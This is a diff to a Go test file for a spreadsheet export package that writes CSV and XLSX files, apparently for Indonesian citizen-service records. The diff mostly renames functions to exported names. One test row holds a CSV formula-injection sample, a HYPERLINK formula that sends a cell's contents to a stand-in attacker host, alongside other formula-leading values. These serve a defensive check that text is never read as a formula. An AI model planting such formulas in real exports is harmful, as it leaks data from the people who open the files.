@@ -1,4 +1,4 @@
-package desk
+package spreadsheet
 
 import (
 	"archive/zip"
@@ -22,13 +22,13 @@ func TestASheetIsReadAsItWasWritten(t *testing.T) {
 	at := time.Date(2026, 11, 24, 23, 30, 0, 0, wib)
 	rows := [][]any{{"Nomor", "Pemohon", "Masuk"}, {"BTM-26-7K3QX-4", `=HYPERLINK("http://jahat.id?"&A1)`, at}, {"+62812", "Siti, \"Rahma\"\nBaris", ""}, {"-1", "@SUM(A1)", at}}
 	rec := httptest.NewRecorder()
-	s := newCSV(rec)
+	s := NewCSV(rec)
 	for _, r := range rows {
-		if err := s.row(r); err != nil {
+		if err := s.Row(r); err != nil {
 			t.Fatal(err)
 		}
 	}
-	if err := s.close(); err != nil {
+	if err := s.Close(); err != nil {
 		t.Fatal(err)
 	}
 	text, ok := strings.CutPrefix(rec.Body.String(), "\ufeff")
@@ -42,13 +42,13 @@ func TestASheetIsReadAsItWasWritten(t *testing.T) {
 		}
 	}
 	rec = httptest.NewRecorder()
-	s = newXLSX(rec)
+	s = NewXLSX(rec)
 	for _, r := range rows {
-		if err := s.row(r); err != nil {
+		if err := s.Row(r); err != nil {
 			t.Fatal(err)
 		}
 	}
-	if err := s.close(); err != nil {
+	if err := s.Close(); err != nil {
 		t.Fatal(err)
 	}
 	f, err := excelize.OpenReader(rec.Body)
@@ -82,12 +82,12 @@ func TestNoTextIsAFormula(t *testing.T) {
 func TestAHundredThousandRowsAreNotHeld(t *testing.T) {
 	const rows, most = 100_000, 96 << 20
 	at := time.Date(2026, 11, 24, 10, 0, 0, 0, wib)
-	for name, s := range map[string]spreadsheet{"csv": &csvSheet{w: csv.NewWriter(io.Discard), raw: io.Discard}, "xlsx": xlsxTo(io.Discard)} {
+	for name, s := range map[string]Sheet{"csv": &csvSheet{w: csv.NewWriter(io.Discard), raw: io.Discard}, "xlsx": xlsxTo(io.Discard)} {
 		var before, now runtime.MemStats
 		runtime.GC()
 		runtime.ReadMemStats(&before)
 		for i := range rows {
-			err := s.row([]any{"BTM-26-7K3QX-4", "Penerbitan KTP elektronik karena hilang", "Dinas Kependudukan dan Pencatatan Sipil", "Siti Rahma", "Sedang diperiksa",
+			err := s.Row([]any{"BTM-26-7K3QX-4", "Penerbitan KTP elektronik karena hilang", "Dinas Kependudukan dan Pencatatan Sipil", "Siti Rahma", "Sedang diperiksa",
 				"Budi", "Situs kota", at, at, "Tidak", "", "", ""})
 			if err != nil {
 				t.Fatal(err)
@@ -99,16 +99,16 @@ func TestAHundredThousandRowsAreNotHeld(t *testing.T) {
 				}
 			}
 		}
-		if err := s.close(); err != nil {
+		if err := s.Close(); err != nil {
 			t.Fatal(err)
 		}
 	}
 	var b bytes.Buffer
 	s := xlsxTo(&b)
-	if err := s.row([]any{"x"}); err != nil {
+	if err := s.Row([]any{"x"}); err != nil {
 		t.Fatal(err)
 	}
-	if err := s.close(); err != nil {
+	if err := s.Close(); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len())); err != nil {
